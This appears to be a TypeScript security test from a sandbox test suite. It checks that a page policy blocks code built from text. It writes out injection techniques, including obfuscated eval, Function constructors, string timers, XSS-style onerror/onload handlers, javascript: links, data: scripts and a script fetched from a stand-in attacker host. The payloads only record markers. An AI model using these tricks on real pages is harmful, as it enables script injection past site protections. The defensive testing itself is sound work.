import type { JsonValue } from '../../contract/index.ts';
import type { Attack } from '../attack.ts';
import { same } from '../expect.ts';

export const attack: Attack = {
  id: '135',
  group: 'payload',
  title: 'make code from text: eval, Function, timers, inline handlers, javascript: addresses, wasm, remote scripts',
  expected: 'none of it runs; a module made as a blob does, which decision 193 is about',
  async guest({ evil, pause }): Promise<JsonValue> {
    const ran: string[] = [];
    // What the debugger itself starts may compile text until the first pause.
    await pause(20);
    Object.assign(window, { ran });
    const attempt = (run: () => unknown): void => {
      try {
        run();
      } catch {
        // The policy refuses; what counts is what ran.
      }
    };
    const hidden = (name: string): ((...args: unknown[]) => unknown) => Reflect.get(window, name);
    attempt(() => hidden(['ev', 'al'].join(''))('ran.push("eval")'));
    attempt(() => Reflect.construct(hidden('Function'), ['ran.push("Function")'])());
    attempt(() => {
      const made: unknown = Reflect.construct(
        Reflect.get(async () => 0, 'constructor'),
        ['ran.push("async")'],
      );
      if (typeof made === 'function') made();
    });
    attempt(() => hidden('setTimeout')('ran.push("timer")', 0));
    attempt(() =>
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src=x onerror="ran.push(\'handler\')"><svg onload="ran.push(\'svg\')">',
      ),
    );
    attempt(() => document.body.setAttribute('onclick', 'ran.push("attribute")'));
    attempt(() => document.body.click());
    attempt(() => {
      const link = document.createElement('a');
      link.setAttribute('href', 'javascript:ran.push("address")');
      document.body.append(link);
      link.click();
    });
    attempt(() => {
      const script = document.createElement('script');
      script.textContent = 'ran.push("inline")';
      document.body.append(script);
    });
    attempt(() => {
      const script = document.createElement('script');
      script.src = `data:text/javascript,ran.push("data")`;
      document.body.append(script);
    });
    attempt(() => {
      const script = document.createElement('script');
      script.src = `${evil}/135/remote`;
      document.body.append(script);
    });
    const empty = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0);
    await WebAssembly.compile(empty).then(
      () => ran.push('wasm'),
      () => null,
    );
    await pause(400);
    return ran;
  },
  judge({ report }) {
    same(report, []);
  },
};
